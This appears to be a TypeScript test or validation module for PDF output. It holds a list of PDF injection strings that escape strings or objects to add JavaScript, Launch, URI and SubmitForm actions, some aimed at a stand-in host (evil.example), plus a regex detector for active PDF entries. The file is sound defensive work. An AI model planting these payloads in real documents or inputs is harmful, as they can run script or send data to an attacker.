/** Texts that would end a string or an object of a PDF, and begin one that runs code or opens something. Short, to fit into a note. */
export const PDF_INJECTIONS: readonly string[] = [
  ') /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (',
  '\\) /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (',
  '\\\\) /AA << /O << /S /URI /URI (//evil.example) >> >> (',
  ') >> endobj 9 0 obj << /OpenAction << /S /Launch /F (a) >> >> (',
  ')\r/OpenAction << /S /SubmitForm /F (//evil.example) >>\r(',
  // Both bytes of a character end a string: a backslash and a bracket.
  '\u5c29 /OpenAction 1 0 R \u2829',
  '> /OpenAction 1 0 R <',
  'ET Q endstream endobj /OpenAction 1 0 R',
];

/** Names of entries that run code, open or send something, or carry a file. None of our documents has one. */
const ACTIVE =
  /\/(JavaScript|JS|OpenAction|AA|A|Launch|URI|GoToR|GoToE|SubmitForm|ImportData|EmbeddedFiles?|RichMedia|XFA|AcroForm|Annots)\b/g;

/** Strings, whose own brackets are escaped, and streams. */
const DATA = /\((?:\\[\s\S]|[^\\()])*\)|stream\r?\n[\s\S]*?endstream/g;

/** Returns the active entries of a PDF that stand outside of its texts and streams. */
export const activeNamesIn = (pdf: Uint8Array): readonly string[] =>
  Buffer.from(pdf).toString('latin1').replaceAll(DATA, ' ').match(ACTIVE) ?? [];
